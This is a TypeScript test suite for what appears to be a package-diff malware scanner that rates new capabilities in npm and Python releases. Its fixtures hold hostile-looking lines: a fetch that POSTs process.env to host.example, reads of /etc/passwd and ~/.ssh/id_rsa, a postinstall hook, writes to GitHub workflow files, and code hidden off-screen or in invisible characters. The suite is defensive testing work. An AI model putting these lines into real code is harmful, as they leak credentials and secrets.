import assert from "node:assert/strict";
import { test } from "node:test";
import type { News, PackageFacts } from "../../../model/index.ts";
import { weighChange } from "./compare-weigh.ts";
import { comparePackages } from "./compare.ts";
import { packageFacts } from "./files-package.ts";

async function release(files: Readonly<Record<string, string>>, manifest: object = {}): Promise<PackageFacts> {
  const all = { "package.json": JSON.stringify({ name: "a", version: "1.0.0", ...manifest }), ...files };
  return await packageFacts(
    "",
    Object.entries(all).map(([path, text]) => ({ path, executable: false, bytes: Buffer.from(text) })),
  );
}

async function newsOf(added: Readonly<Record<string, string>>, manifest: object = {}): Promise<readonly News[]> {
  return comparePackages(
    await release({ "index.js": "module.exports = 1;\n" }),
    await release({ "index.js": "module.exports = 1;\n", ...added }, manifest),
  ).news;
}
const told = (news: readonly News[]): readonly string[] =>
  news.map((one) => `${one.kind} ${one.level}${one.kind === "hiding" ? ` ${one.hiding.kind}` : ""}`);

const STARTS = `require("child_process").exec("ls");\n`;
const TYPES = `import * as dns from "node:dns";\nexport * from "node:child_process";\nexport declare const a: dns.LookupOptions;\n`;

test("declarations of types do nothing, whatever modules they name, until something loads them as code", async () => {
  for (const path of ["index.d.ts", "types/a.d.mts", "a.d.cts", "a.d.json.ts"]) assert.deepEqual(await newsOf({ [path]: TYPES }), [], path);
  assert.ok(told(await newsOf({ "a.d.ts": STARTS, "lib.js": `require("./a.d.ts");\n` })).includes("capability package"));
  assert.ok(told(await newsOf({ "a.d.ts": STARTS }, { scripts: { postinstall: "node a.d.ts" } })).includes("capability package"));
  assert.ok(told(await newsOf({ "a.d.ts": STARTS, "lib.js": `require(process.argv[2]);\n` })).includes("capability package"));
});

test("what a declaration hides is news, that it is dense is none", async () => {
  const unseen = `export declare const a: "${String.fromCodePoint(...Array.from({ length: 12 }, (_, i) => 0xe0100 + i))}";\n`;
  assert.deepEqual(told(await newsOf({ "a.d.ts": unseen })), ["hiding package invisible-characters"]);
  assert.deepEqual(await newsOf({ "a.d.ts": `export declare const a:1;`.repeat(90) }), []);
});

test("what tests and build files do weighs little where nothing of the package leads to them", async () => {
  for (const path of ["test/a.js", "lib/a.test.ts", "index.test.js", "test.js", "examples/x/a.mjs", "gulpfile.js", "rollup.config.mjs"]) {
    const news = await newsOf({ [path]: `${STARTS}fetch("http://host.example/");\n` });
    assert.ok(news.length > 0 && news.every(({ level }) => level === "aside"), path);
  }
});

const levels = async (text: string): Promise<readonly string[]> => (await newsOf({ "test/a.js": text })).map(({ level }) => level);

test("a file of secrets that a test only names, and an ordinary package that it loads by a name it puts together, weigh little", async () => {
  assert.deepEqual(await levels(`same(parse("../../../etc/passwd"), "etc/passwd");\n`), ["aside"]);
  assert.ok((await levels(`require("fs").readFileSync("/etc/passwd");\n`)).includes("package"));
  assert.deepEqual(await levels(`const old = ["a4" + "00"].map((one) => require(one));\n`), ["aside"]);
  assert.ok((await levels(`const cp = require("child_" + "process");\n`)).includes("package"));
});

const capabilities = async (files: Readonly<Record<string, string>>, manifest: object): Promise<readonly string[]> =>
  (await newsOf(files, manifest)).flatMap(({ kind, level }) => (kind === "capability" ? [level] : []));

test("what only builds or publishes the package is its makers' under whatever name, until something else leads to it", async () => {
  const scripts = { scripts: { prepublishOnly: "node make.js" } };
  assert.ok((await capabilities({ "make.js": STARTS }, scripts)).every((level) => level === "aside"));
  assert.ok((await capabilities({ "make.js": STARTS }, { ...scripts, main: "make.js" })).includes("package"));
  assert.ok(
    (await capabilities({ "make.js": STARTS }, { scripts: { ...scripts.scripts, postinstall: "node make.js" } })).includes("package"),
  );
});

test("a loop without an end in a new file hangs whoever is led to it, and nobody where it is started by a name of its own", async () => {
  const loop = { "worker.js": "while (true) {}\n" };
  const level = async (files: Readonly<Record<string, string>>, manifest: object = {}): Promise<string> =>
    (await newsOf({ ...loop, ...files }, manifest)).find((one) => one.kind === "capability" && one.sighting.capability === "endless-loop")
      ?.level ?? "";
  assert.equal(await level({}), "aside");
  assert.equal(await level({}, { exports: { ".": "./index.js", "./worker": "./worker.js" } }), "aside");
  assert.equal(await level({}, { main: "./worker.js" }), "package");
  assert.equal(await level({}, { exports: { default: "./worker.js" } }), "package");
  assert.equal(await level({ "lib.js": `require("./worker.js");\n` }), "package");
  const before = await release({ "index.js": "", "worker.js": "" });
  assert.equal(comparePackages(before, await release({ "index.js": "", ...loop })).news[0]?.level, "package");
});

const reads = (name: string): string => `exports.a = process.env.${name};\n`;

test("a variable that another file read before is no news where a new one reads it", async () => {
  const change = comparePackages(
    await release({ "index.js": reads("A_ONE") }),
    await release({ "index.js": reads("A_ONE"), "all.min.js": reads("A_ONE"), "b.js": reads("A_TWO") }),
  );
  assert.deepEqual(
    change.news.map(({ file }) => file),
    ["b.js"],
  );
});

const beaconing = async (files: Readonly<Record<string, string>>, manifest: object = {}): Promise<string> =>
  weighChange(
    comparePackages(
      await release({ "index.js": "exports.a = 1;\n" }),
      await release({ "index.js": "exports.a = 1;\n", ...files }, manifest),
    ),
  ).tier;

test("a connection that is opened as soon as the package is loaded is worth a look, one that waits for a call or for its own program is a note", async () => {
  const beacon = `fetch("https://host.example/");\n`;
  assert.equal(await beaconing({ "index.js": beacon }), "review");
  assert.equal(await beaconing({ "lib.js": beacon, "index.js": `require("./lib.js");\n` }), "review");
  assert.equal(await beaconing({ "index.js": `exports.get = () => ${beacon}` }), "note");
  assert.equal(await beaconing({ "news.js": beacon }, { bin: { news: "news.js" } }), "note");
  assert.equal(await beaconing({ "left.js": beacon, "fetch-all": `#!/bin/sh\ncurl https://host.example/\n` }), "note");
});

const newsAfter = async (before: string, after: string): Promise<readonly string[]> =>
  comparePackages(await release({ "index.js": before }), await release({ "index.js": before + after })).news.map(
    ({ kind, level }) => `${kind} ${level}`,
  );
const opens = (path: string): string => `require("fs").readFileSync("${path}");\n`;

test("who replaced one thing before, or read one file of secrets, is news where it is another", async () => {
  assert.ok((await newsAfter(`window.atob = mine;\n`, `window.fetch = mine;\n`)).includes("capability package"));
  assert.ok((await newsAfter(opens("/root/.npmrc"), opens("/root/.ssh/id_rsa"))).includes("capability package"));
  assert.ok(!(await newsAfter(opens("/root/.npmrc"), opens("/home/a/.npmrc"))).includes("capability package"));
});

test("a test counts in full where the manifest, what runs by itself or another file reaches it", async () => {
  const reached: readonly (readonly [files: Readonly<Record<string, string>>, manifest: object])[] = [
    [{}, { main: "./test/a" }],
    [{}, { exports: { ".": { node: { require: "./test/a.js" } } } }],
    [{}, { exports: { "./*": "./test/*.js" } }],
    [{}, { bin: { a: "test/a.js" } }],
    [{}, { directories: { bin: "test" } }],
    [{}, { scripts: { postinstall: "node test/a.js" } }],
    [{ "lib.js": `import "./test/b.js";\n`, "test/b.js": `import "./a.js";\n` }, {}],
  ];
  for (const [files, manifest] of reached)
    assert.ok(told(await newsOf({ "test/a.js": STARTS, ...files }, manifest)).includes("capability package"), JSON.stringify(manifest));
});

test("what is hidden in a test, and secrets that it carries off, count wherever it lies", async () => {
  const sends = `fetch("https://host.example/", { method: "POST", body: JSON.stringify(process.env) });\n`;
  assert.ok(told(await newsOf({ "test/a.js": sends })).includes("flow package"));
  const behind = `let a = 1;${" ".repeat(300)}b();\n`;
  assert.deepEqual(told(await newsOf({ "test/a.js": behind })), ["hiding package off-screen"]);
});

test("a rewrite in a seventh of the code is no collapse, nothing left is one, and a list that stays a list is none", async () => {
  const code = { "index.js": "exports.one = (a) => a + 1;\n".repeat(400) };
  const collapses = async (files: Readonly<Record<string, string>>, version: string): Promise<boolean> =>
    comparePackages(await release(code), await release(files, { version })).news.some(({ kind }) => kind === "collapse");
  const seventh = { "index.js": "exports.one = (a) => a + 1;\n".repeat(57) };
  assert.deepEqual([await collapses(seventh, "1.0.1"), await collapses({}, "1.0.1"), await collapses({}, "2.0.0")], [false, true, true]);
  const list = { "index.json": JSON.stringify(Array.from({ length: 900 }, (_, at) => `name ${at}`)) };
  const change = comparePackages(
    await release({ ...list, "module.js": `export default ${list["index.json"]};\n` }),
    await release(list, { version: "2.0.0" }),
  );
  assert.deepEqual(change.news, []);
});

const publishes = async (text: string): Promise<boolean> =>
  (await newsOf({ "lib.js": text })).some((one) => one.kind === "capability" && one.sighting.capability === "propagation");

test("the path of a workflow is news where it may be written, not where it is read or searched for", async () => {
  assert.equal(await publishes(`exports.all = (glob) => glob([".github/workflows/*.yml"]);\n`), false);
  assert.equal(await publishes(`exports.read = () => require("fs").readFileSync(".github/workflows/ci.yml", "utf8");\n`), false);
  assert.equal(await publishes(`require("fs").writeFileSync(".github/workflows/ci.yml", "on: push");\n`), true);
  assert.equal(
    await publishes(
      `const { writeFileSync } = require("fs");\nexports.put = (root) => writeFileSync(root + "/.github/workflows/ci.yml", "");\n`,
    ),
    true,
  );
  const change = comparePackages(
    await release({ "index.js": "" }),
    await release({
      "index.js": `const at = ".github/workflows/x.yml";\nrequire("fs").writeFileSync(process.argv[2] + at, "on: push");\n`,
    }),
  );
  assert.equal(weighChange(change).tier, "review");
});

const METADATA = "Metadata-Version: 2.1\nName: a\nVersion: 1.0\n";
async function pythonNews(added: Readonly<Record<string, string>>, metadata = "a-1.0.dist-info/METADATA"): Promise<readonly News[]> {
  const of = async (files: Readonly<Record<string, string>>): Promise<PackageFacts> =>
    await packageFacts(
      "pkg:pypi/a@1.0",
      Object.entries({ [metadata]: METADATA, "a/__init__.py": "ONE = 1\n", ...files }).map(([path, text]) => ({
        path,
        executable: false,
        bytes: Buffer.from(text),
      })),
    );
  return comparePackages(await of({}), await of(added)).news;
}
const RUNS = "import subprocess\nsubprocess.run(['ls'])\n";

test("tests within a Python distribution weigh little, until the package, what runs by itself or a program leads to them", async () => {
  for (const path of ["a/tests/test_a.py", "a/test_b.py", "a/sub/conftest.py", "a/tests/helper.py"])
    assert.ok(
      (await pythonNews({ [path]: RUNS })).every(({ level }) => level === "aside"),
      path,
    );
  const weighty = async (files: Readonly<Record<string, string>>): Promise<boolean> =>
    (await pythonNews(files)).some(({ level }) => level === "package");
  assert.ok(await weighty({ "a/testing/one.py": RUNS }), "an interface for others");
  assert.ok(await weighty({ "a/tests/helper.py": RUNS, "a/b.py": "from .tests.helper import one\n" }));
  assert.ok(await weighty({ "a/tests/__init__.py": "", "a/tests/helper.py": RUNS, "a/b.py": "from a.tests import helper\n" }));
  assert.ok(await weighty({ "a/tests/helper.py": RUNS, "x.pth": "import a.tests.helper\n" }));
  assert.ok(
    await weighty({ "a/tests/helper.py": RUNS, "a-1.0.dist-info/entry_points.txt": "[console_scripts]\nrun = a.tests.helper:main\n" }),
  );
  assert.ok(
    (await pythonNews({ "a/tests/helper.py": RUNS }, "somewhere/METADATA")).some(({ level }) => level === "package"),
    "no distribution",
  );
});
